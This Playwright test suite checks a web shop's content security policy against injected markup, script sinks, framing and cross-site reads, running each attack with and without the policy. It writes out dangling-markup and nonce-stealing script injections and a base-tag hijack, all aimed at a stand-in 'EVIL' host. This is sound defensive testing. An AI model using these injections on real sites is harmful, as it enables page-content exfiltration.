import type { Page } from "playwright/test";
import { startServer } from "../support/loopback-server.ts";
import {
	BAITS,
	CHANNELS,
	defineNext,
	EVIL,
	MARKUP,
	PRESS_MS,
	PRESSES,
	SINKS,
	startEvil,
} from "./support/policy-trials.ts";
import { test as base, expect, hydrated } from "./support/test.ts";

/** One allows scripts by hash, the other by nonce. */
const PAGES = ["/faq", "/auth"];

interface Evil {
	url: string;
	/** Names of the requests. */
	reached: Set<string>;
	/** The pages of Evil by name. */
	pages: Map<string, string>;
}

interface Attack {
	path: string;
	/** Added to the served page, which `change` may change. */
	markup?: Readonly<Record<string, string>>;
	change?: (html: string) => string;
	/** Run in the page, each statement in a task of its own, which the policy applies to. */
	code?: readonly string[];
	/** Milliseconds between two statements. */
	pause?: number;
	/** Omits the policy, to prove that every attack works without it. */
	isControl?: boolean;
}

const test = base.extend<{ evil: Evil; attack: (attack: Attack) => Promise<string[]> }>({
	// biome-ignore lint/correctness/noEmptyPattern: Playwright reads the parameter's names
	evil: async ({}, use) => {
		const evil = { reached: new Set<string>(), pages: new Map<string, string>() };
		const { url, close } = await startEvil(evil.reached, evil.pages);
		await use({ url, ...evil });
		close();
	},
	/** Returns the names of the attacks that worked. */
	attack: async ({ page, baseURL, browserErrors, evil }, use) => {
		browserErrors.expected.push(/./);
		await page.addInitScript(() => Object.assign(window, { hacked: {} }));
		const aim = (text: string) => text.replaceAll(EVIL, evil.url);
		await use(async ({ path, markup = {}, change = String, code = [], pause = TASK_MS, isControl = false }) => {
			const last = Promise.withResolvers<void>();
			const added = aim(Object.values(markup).join("\n"));
			// A server, as responses that Playwright invents have no address, and may not load from this machine
			const shop = await startServer(async ({ url }) => {
				const { pathname, search } = new URL(url);
				if (pathname === LAST_PATH) {
					last.resolve();
					return new Response(null, { status: 204 });
				}
				const response = await fetch(`${baseURL}${pathname}${search}`);
				const answer = new Response(response.body, response);
				for (const name of ["content-encoding", "content-length", ...(isControl ? ["content-security-policy"] : [])])
					answer.headers.delete(name);
				if (pathname !== path) return answer;
				const html = aim(change(await answer.text()));
				return new Response(
					html.replace("</body>", () => `${added}</body>`),
					answer,
				);
			});
			await page.goto(shop.url + path);
			await page.dispatchEvent("html", "pointerover", { clientX: 5, clientY: 5 }); // starts hydration
			await page.waitForLoadState("networkidle");
			await runAll(page, [...code.map(aim), `fetch(location.origin + "${LAST_PATH}")`], pause);
			await last.promise;
			const worked = async () => {
				const hacked = await page.evaluate(() => Object.keys((window as unknown as { hacked: object }).hacked));
				return [...new Set([...hacked, ...evil.reached])].sort();
			};
			const attempts = isControl ? Object.keys(markup).length || code.length || 1 : 0;
			const end = Date.now() + MAX_WAIT_MS;
			// Polls, as the network never becomes idle: Chromium counts some of the channels as open for good
			let result: string[];
			do {
				result = await worked();
				await page.waitForTimeout(LAST_TASK_MS);
			} while ((result.length < attempts && Date.now() < end) || result.length !== (await worked()).length);
			shop.close();
			return result;
		});
		browserErrors.violations.length = 0;
	},
});

/** A request that the policy allows. Once it has arrived, so have attacks that the policy doesn't stop. */
const LAST_PATH = "/last-attempt";
const TASK_MS = 40;
const LAST_TASK_MS = 500;
/** The longest wait for attacks that nothing stops. */
const MAX_WAIT_MS = 20_000;

const runAll = (page: Page, code: readonly string[], pause: number) =>
	page.evaluate(`new Promise((done) => { ${defineNext(code, pause, LAST_TASK_MS)} setTimeout(next); })`);

for (const path of PAGES)
	for (const isControl of [true, false])
		test.describe(isControl ? `without the policy of ${path}` : `the policy of ${path}`, () => {
			const [verb, worksOf] = isControl
				? ["nothing stops", (trials: object) => Object.keys(trials).sort()]
				: ["stops", () => []];

			test(`${verb} injected markup @once`, async ({ attack }) => {
				expect(await attack({ path, isControl, markup: MARKUP })).toEqual(worksOf(MARKUP));
			});

			test(`${verb} injected links and forms @once`, async ({ attack }) => {
				const pause = isControl ? PRESS_MS : TASK_MS;
				expect(await attack({ path, isControl, markup: BAITS, code: PRESSES, pause })).toEqual(worksOf(BAITS));
			});

			test(`${verb} text that is used as markup, code or an address @once`, async ({ attack }) => {
				expect(await attack({ path, isControl, code: Object.values(SINKS) })).toEqual(worksOf(SINKS));
			});

			test(`${verb} running code from reaching other sites @once`, async ({ attack }) => {
				expect(await attack({ path, isControl, code: Object.values(CHANNELS) })).toEqual(worksOf(CHANNELS));
			});
		});

for (const isControl of [true, false]) {
	const name = isControl ? "nothing else stops it" : "the policy stops it";

	test(`a script that takes the nonce of the next one: ${name} @once`, async ({ attack, page }) => {
		const change = (html: string) =>
			html.replace(/<script(?= nonce)/, () => `<script src="${EVIL}/dangling.js" <script`);
		expect(await attack({ path: "/auth", isControl, change })).toEqual(isControl ? ["dangling"] : []);
		const nonces = await page.evaluate(() => [...document.scripts].map((script) => script.getAttribute("nonce")));
		if (!isControl) expect(nonces.filter(Boolean), "style sheets and markup can't read it").toEqual([]);
	});

	test(`markup that swallows the page after it, into an address: ${name} @once`, async ({ attack }) => {
		const start = (html: string) => html.replace("<main", () => `<img src='${EVIL}/dangling?<main`);
		const change = (html: string) => start(html).replace("</h1>", "'></h1>");
		expect(await attack({ path: "/auth", isControl, change })).toEqual(isControl ? ["dangling"] : []);
	});

	test(`another base for the page's addresses: ${name} @once`, async ({ attack, evil }) => {
		const change = (html: string) => html.replace("<head>", () => `<head><base href="${EVIL}">`);
		await attack({ path: "/faq", isControl, change });
		expect(evil.reached.size > 0).toBe(isControl);
	});
}

test.describe("a service worker", () => {
	test.use({ serviceWorkers: "allow" });

	test("is registered from one address only @once", async ({ page, browserErrors }) => {
		browserErrors.expected.push(/./);
		await page.goto("/faq");
		const register = (address: string) =>
			page.evaluate((address) => navigator.serviceWorker.register(address).then(Boolean, () => false), address);
		const code = "data:text/javascript,";
		for (const address of ["/vitals.js", "/sw.js?other", "/products/enc-0001.svg", "/robots.txt", "/catalog", code])
			expect(await register(address), address).toBe(false);
		expect(await register("/sw.js")).toBe(true);
		browserErrors.violations.length = 0;
	});
});

test.describe("a page of another site", () => {
	test("cannot frame pages, data or files @once", async ({ page, baseURL, evil, browserErrors }) => {
		browserErrors.expected.push(/./);
		const paths = ["/", "/auth", "/new-arrivals", "/nope", "/session", "/catalog", "/robots.txt", "/healthz", "/sw.js"];
		const files = ["/products/enc-0001.svg", "/favicon.svg", "/icon-192.png", "/fonts/", "/photo/a/b.png"];
		const frames = [...paths, ...files].map((path) => `<iframe src="${baseURL}${path}"></iframe>`);
		evil.pages.set("top", `<iframe src="${evil.url}/framed"></iframe>${frames.join("")}`);
		evil.pages.set("framed", "framed");
		await page.goto(`${evil.url}/top`);
		const shown = page.frames().map((frame) => frame.url());
		expect(shown).toHaveLength(frames.length + 2);
		expect(shown.filter((url) => url.startsWith("http"))).toEqual([`${evil.url}/top`, `${evil.url}/framed`]);
	});

	test("cannot load data and files, except pictures for shared links @once", async ({
		page,
		baseURL,
		evil,
		browserErrors,
	}) => {
		browserErrors.expected.push(/./);
		evil.pages.set("top", "<p>x</p>");
		await page.goto(`${evil.url}/top`);
		const loads = (tag: "img" | "script", path: string) =>
			page.evaluate(
				([tag, src]) =>
					new Promise<boolean>((resolve) => {
						const element = document.body.appendChild(document.createElement(tag));
						element.onload = () => resolve(true);
						element.onerror = () => resolve(false);
						element.src = src;
					}),
				[tag, baseURL + path] as const,
			);
		for (const path of ["/session", "/catalog", "/vitals.js", "/account/data"])
			expect(await loads("script", path), path).toBe(false);
		for (const path of ["/products/enc-0001.svg", "/favicon.svg"]) expect(await loads("img", path), path).toBe(false);
		expect(await loads("img", "/og/enc-0001.png")).toBe(true);
		const read = (mode: RequestMode) =>
			page.evaluate(([url, mode]) => fetch(url, { mode, credentials: "include" }).then(Boolean, () => false), [
				`${baseURL}/session`,
				mode,
			] as const);
		expect([await read("cors"), await read("no-cors")]).toEqual([false, false]);
	});

	test("keeps no handle on a window of the shop, which listens to no messages @once", async ({
		page,
		baseURL,
		evil,
	}) => {
		await page.context().addInitScript(() => {
			const listen = EventTarget.prototype.addEventListener;
			EventTarget.prototype.addEventListener = function (this: EventTarget, ...args: Parameters<typeof listen>) {
				if (this === window && args[0] === "message") document.documentElement.dataset.listens = "";
				return listen.apply(this, args);
			};
		});
		evil.pages.set("top", "<p>x</p>");
		await page.goto(`${evil.url}/top`);
		for (const path of [...PAGES, "/", "/checkout"]) {
			const popup = page.waitForEvent("popup");
			await page.evaluate((url) => Object.assign(window, { handle: open(url) }), baseURL + path);
			const shop = await popup;
			await hydrated(shop);
			expect(await shop.evaluate(() => [opener, onmessage, document.documentElement.dataset.listens])).toEqual([
				null,
				null,
				undefined,
			]);
			expect(await page.evaluate(() => (window as unknown as { handle: Window }).handle.closed), path).toBe(true);
		}
	});
});
